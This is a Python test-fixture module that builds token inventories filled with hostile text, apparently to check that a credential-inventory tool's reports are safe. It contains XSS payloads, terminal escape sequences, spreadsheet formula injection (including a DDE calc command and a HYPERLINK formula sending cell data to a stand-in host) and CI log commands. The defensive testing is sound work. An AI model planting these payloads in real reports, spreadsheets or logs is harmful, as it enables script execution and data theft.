"""Assessed inventories for the tests of reports, friendly and hostile."""

from datetime import timedelta

from tests.unit.test_policy_rules import CAN, DONE, GOOD, NOW, PROOF, ROW
from tokenguard.domain.document import Document
from tokenguard.domain.liveness import DeathGrade
from tokenguard.domain.names import token_name
from tokenguard.frozen import replace
from tokenguard.policy.context import InventoryContext, ProviderFacts, place_of
from tokenguard.policy.evaluation import assess
from tokenguard.policy.loader import default_policy
from tokenguard.policy.model import PolicyWaiver, RuleSelector
from tokenguard.report.posture import Posture

DAY = timedelta(days=1)
MARKUP = (
    "<script>alert(1)</script>", "</td></table><img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "'onclick='x",
    "&lt;b&gt;", "]]><!--", "<!--", "</style><style>*{display:none}", "javascript:alert(1)", "[x](javascript:alert(1))",
    "![x](http://192.0.2.1/p.png)", "`x` | y || z", "\\| a \\", "# head", "<https://192.0.2.1>", "www.example.com",
)  # fmt: skip
ESCAPES = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x9b31m", "a\rb", "a\nb", "a\tb", "a\x00b", "a\x7fb", "\u202egnp.exe",
    "\u2066x\u2069", "\u200bx", "\u2028x", "\ufeffx", "\U000e0041", "\ue000", "\ud800",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", " =1+1", "\t=1+1", "\n=1+1", "\r=1", "|calc", "%0A=1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")', "-2+3+cmd|' /C calc'!A0", '"=1"', ";=1", ",=1",
)  # fmt: skip
STORE_ID = "0" * 32
COMMANDS = ("::add-mask::0", "##vso[task.prependpath]/tmp", "##[error]x", "##teamcity[x]")
"""What runners of builds act on in a log."""
HOSTILE = (*MARKUP, *ESCAPES, *FORMULAS, *COMMANDS)
_FREE = (
    "owner", "purpose", "made_by", "deputy", "account", "scope_name", "environment", "notes", "provider_id", "label",
    "hint",
)  # fmt: skip


def number(n, **changes):
    """One of many tokens in order, each in a place of its own."""
    record = replace(
        GOOD, name=token_name(f"team{n % 7}/service{n}/upload"), owner=f"team{n % 7}", purpose=f"purpose {n}",
        fingerprint=f"{n:032x}", provider_id=f"id{n}",
    )  # fmt: skip
    return Document(record=replace(record, **changes), journal=DONE)


def posture_of(documents, *, policy=None, facts=None, at=NOW, remarks=()):
    policy = policy or default_policy()
    around = InventoryContext(documents, at, facts)
    return Posture(
        at=at, assessments=[assess(policy, around)], surroundings=[around], store_ids=[STORE_ID], remarks=remarks
    )


def hostile_posture():
    """Every text that can come from outside is an attack: fields of records, journals, waivers and providers' lists."""
    documents, rows = [], []
    for n, text in enumerate(HOSTILE):
        document = number(n, rotated_at=NOW - 200 * DAY, **dict.fromkeys(_FREE, text))
        proof = replace(PROOF, grade=DeathGrade.ASSERTED, said_by=text)
        journal = replace(DONE, revoked_by=text, proof=proof, waiting_for=text)
        documents.append(replace(document, journal=journal))
        rows.append(replace(ROW, provider_id=f"stranger{n}{text}", label=text))
    facts = {place_of(number(0).record): ProviderFacts(capabilities=CAN, listed=rows)}
    waivers = tuple(
        PolicyWaiver(
            rule="maximum-age", match=RuleSelector(token=f"team{n}/*"), owner=text, reason=text, until=NOW + DAY
        )
        for n, text in enumerate(HOSTILE[:7])
    )
    policy = replace(default_policy(), waivers=waivers)
    return posture_of(documents, policy=policy, facts=facts, remarks=HOSTILE)
